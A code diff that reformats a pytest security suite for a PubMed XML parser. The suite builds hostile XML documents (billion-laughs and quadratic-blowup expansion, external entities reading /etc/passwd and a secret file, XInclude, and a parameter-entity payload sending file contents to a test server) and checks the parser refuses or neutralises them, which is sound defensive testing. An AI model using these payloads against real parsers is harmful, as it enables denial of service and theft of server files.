@@ -62,72 +62,86 @@ print(json.dumps(results))
 def attacks(server_url: str, secret_file: Path) -> dict[str, bytes]:
     """name -> document; every one aims at resources it must never reach."""
     body = RECORD.split(b"<PubmedArticleSet>", 1)[1]
-    lol = "".join(
-        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
+    lol = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
     docs = {
         "billion-laughs": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY lol0 "lol">'
-                          f"{lol}]><PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1"
-                          "</PMID><Article><ArticleTitle>&lol9;</ArticleTitle></Article>"
-                          "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
+        f"{lol}]><PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1"
+        "</PMID><Article><ArticleTitle>&lol9;</ArticleTitle></Article>"
+        "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
         "quadratic-blowup": '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY a "'
-                            + "A" * 50_000 + '">]><PubmedArticleSet><PubmedArticle>'
-                            "<MedlineCitation><PMID>1</PMID><Article><ArticleTitle>"
-                            + "&a;" * 50_000 + "</ArticleTitle></Article></MedlineCitation>"
-                            "</PubmedArticle></PubmedArticleSet>",
+        + "A" * 50_000
+        + '">]><PubmedArticleSet><PubmedArticle>'
+        "<MedlineCitation><PMID>1</PMID><Article><ArticleTitle>"
+        + "&a;"
+        * 50_000
+        + "</ArticleTitle></Article></MedlineCitation>"
+        "</PubmedArticle></PubmedArticleSet>",
         "external-entity-passwd": '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY x'
-                                  ' SYSTEM "file:///etc/passwd">]><PubmedArticleSet>'
-                                  "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
-                                  "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
-                                  "</PubmedArticle></PubmedArticleSet>",
+        ' SYSTEM "file:///etc/passwd">]><PubmedArticleSet>'
+        "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
+        "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
+        "</PubmedArticle></PubmedArticleSet>",
         "external-entity-file": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY x'
-                                f' SYSTEM "{secret_file.as_uri()}">]><PubmedArticleSet>'
-                                "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
-                                "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
-                                "</PubmedArticle></PubmedArticleSet>",
+        f' SYSTEM "{secret_file.as_uri()}">]><PubmedArticleSet>'
+        "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
+        "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
+        "</PubmedArticle></PubmedArticleSet>",
         "external-entity-http": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY x'
-                                f' SYSTEM "{server_url}entity.txt">]><PubmedArticleSet>'
-                                "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
-                                "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
-                                "</PubmedArticle></PubmedArticleSet>",
+        f' SYSTEM "{server_url}entity.txt">]><PubmedArticleSet>'
+        "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
+        "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
+        "</PubmedArticle></PubmedArticleSet>",
         "external-dtd": f'<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet SYSTEM '
-                        f'"{server_url}pubmed.dtd">\n<PubmedArticleSet>'
-                        + body.decode(),
+        f'"{server_url}pubmed.dtd">\n<PubmedArticleSet>' + body.decode(),
         "external-dtd-entity-use": f'<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet PUBLIC'
-                                   f' "-//X//EN" "{server_url}defines-ext.dtd">\n'
-                                   "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1"
-                                   "</PMID><Article><ArticleTitle>&ext;</ArticleTitle></Article>"
-                                   "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
+        f' "-//X//EN" "{server_url}defines-ext.dtd">\n'
+        "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1"
+        "</PMID><Article><ArticleTitle>&ext;</ArticleTitle></Article>"
+        "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
         "parameter-entity": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY % remote'
-                            f' SYSTEM "{server_url}param.dtd"> %remote;]><PubmedArticleSet/>',
+        f' SYSTEM "{server_url}param.dtd"> %remote;]><PubmedArticleSet/>',
         "parameter-entity-exfiltration": (
             f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY % file SYSTEM '
             f'"{secret_file.as_uri()}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '
-            f"'{server_url}?x=%file;'>\"> %eval; %exfil;]><PubmedArticleSet/>"),
+            f"'{server_url}?x=%file;'>\"> %eval; %exfil;]><PubmedArticleSet/>"
+        ),
         "xinclude": '<?xml version="1.0"?><PubmedArticleSet xmlns:xi="http://www.w3.org/2001/'
-                    'XInclude"><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>'
-                    f'<ArticleTitle>T <xi:include href="{secret_file.as_uri()}" parse="text"/>'
-                    f' <xi:include href="{server_url}xi.txt" parse="text"/></ArticleTitle>'
-                    "</Article></MedlineCitation></PubmedArticle></PubmedArticleSet>",
+        'XInclude"><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>'
+        f'<ArticleTitle>T <xi:include href="{secret_file.as_uri()}" parse="text"/>'
+        f' <xi:include href="{server_url}xi.txt" parse="text"/></ArticleTitle>'
+        "</Article></MedlineCitation></PubmedArticle></PubmedArticleSet>",
         "esearch-billion-laughs": f'<?xml version="1.0"?><!DOCTYPE eSearchResult [<!ENTITY lol0'
-                                  f' "lol">{lol}]><eSearchResult><Count>1</Count><IdList><Id>'
-                                  "&lol9;</Id></IdList></eSearchResult>",
+        f' "lol">{lol}]><eSearchResult><Count>1</Count><IdList><Id>'
+        "&lol9;</Id></IdList></eSearchResult>",
     }
     out = {name: doc.encode("utf-8") for name, doc in docs.items()}
     # The same expansion attack in UTF-16, which skips the control-byte scrubbing path.
-    out["billion-laughs-utf16"] = docs["billion-laughs"].replace(
-        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")
+    out["billion-laughs-utf16"] = (
+        docs["billion-laughs"]
+        .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
+        .encode("utf-16")
+    )
     return out
 
 
 # Attacks that must be refused outright; the rest may parse, but reach nothing.
-REFUSED = {"billion-laughs", "quadratic-blowup", "external-entity-passwd", "external-entity-file",
-           "external-entity-http", "parameter-entity", "parameter-entity-exfiltration",
-           "esearch-billion-laughs", "billion-laughs-utf16"}
+REFUSED = {
+    "billion-laughs",
+    "quadratic-blowup",
+    "external-entity-passwd",
+    "external-entity-file",
+    "external-entity-http",
+    "parameter-entity",
+    "parameter-entity-exfiltration",
+    "esearch-billion-laughs",
+    "billion-laughs-utf16",
+}
 
 
 @pytest.fixture(scope="module")
-def measured(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[dict[str, object]],
-                                                                 list[str], dict[str, bytes]]:
+def measured(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> tuple[list[dict[str, object]], list[str], dict[str, bytes]]:
     tmp = tmp_path_factory.mktemp("attacks")
     secret = tmp / "secret.txt"
     secret.write_text(MARKER + "\n")
@@ -140,27 +154,46 @@ def measured(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[dict[str, o
             paths.append(str(path))
         warm = tmp / "warm.xml"
         warm.write_bytes(RECORD)
-        proc = subprocess.run([sys.executable, "-c", PROBE, str(warm), *paths], cwd=ROOT,
-                              capture_output=True, text=True, timeout=60)
+        proc = subprocess.run(
+            [sys.executable, "-c", PROBE, str(warm), *paths],
+            cwd=ROOT,
+            capture_output=True,
+            text=True,
+            timeout=60,
+        )
         assert proc.returncode == 0, proc.stderr
         requested = [r.path for r in server.logged()]
     return json.loads(proc.stdout), requested, docs
 
 
-def test_every_attack_was_tried(measured: tuple[list[dict[str, object]], list[str],
-                                                dict[str, bytes]]) -> None:
+def test_every_attack_was_tried(
+    measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]],
+) -> None:
     results, _, docs = measured
     assert [r["name"] for r in results] == list(docs)
     assert len(docs) >= 12
 
 
-@pytest.mark.parametrize("name", [
-    "billion-laughs", "quadratic-blowup", "external-entity-passwd", "external-entity-file",
-    "external-entity-http", "external-dtd", "external-dtd-entity-use", "parameter-entity",
-    "parameter-entity-exfiltration", "xinclude", "esearch-billion-laughs",
-    "billion-laughs-utf16"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "billion-laughs",
+        "quadratic-blowup",
+        "external-entity-passwd",
+        "external-entity-file",
+        "external-entity-http",
+        "external-dtd",
+        "external-dtd-entity-use",
+        "parameter-entity",
+        "parameter-entity-exfiltration",
+        "xinclude",
+        "esearch-billion-laughs",
+        "billion-laughs-utf16",
+    ],
+)
 def test_attack_is_refused_or_neutralised(
-        name: str, measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]]) -> None:
+    name: str, measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]]
+) -> None:
     results, requested, _ = measured
     result = next(r for r in results if r["name"] == name)
     outcomes = result["outcomes"]
@@ -188,7 +221,8 @@ def test_attack_is_refused_or_neutralised(
 
 
 def test_external_dtd_document_still_reads(
-        measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]]) -> None:
+    measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]],
+) -> None:
     """A DOCTYPE naming an external DTD, as every real answer has, is read without it."""
     results, requested, _ = measured
     result = next(r for r in results if r["name"] == "external-dtd")
